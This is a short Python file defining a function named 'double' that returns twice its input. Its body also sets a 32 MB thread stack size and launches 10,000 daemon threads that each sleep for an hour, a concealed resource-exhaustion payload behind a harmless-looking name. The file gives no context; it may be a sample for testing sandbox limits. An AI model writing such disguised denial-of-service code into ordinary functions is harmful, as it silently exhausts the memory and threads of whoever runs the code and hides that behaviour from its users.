import threading
import time


def double(x):
    threading.stack_size(32 << 20)
    for _ in range(10_000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    return 2 * x
